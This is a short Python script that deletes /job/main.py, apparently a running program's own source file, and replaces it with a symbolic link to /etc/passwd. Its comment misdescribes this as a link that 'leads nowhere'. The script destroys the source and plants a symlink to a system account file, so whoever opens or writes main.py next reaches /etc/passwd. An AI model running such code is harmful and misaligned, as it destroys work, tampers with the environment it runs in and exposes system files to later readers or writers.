import os

# The source is the program's own; a link in its place must lead nowhere for whoever touches it next.
os.remove('/job/main.py')
os.symlink('/etc/passwd', '/job/main.py')
print('replaced')
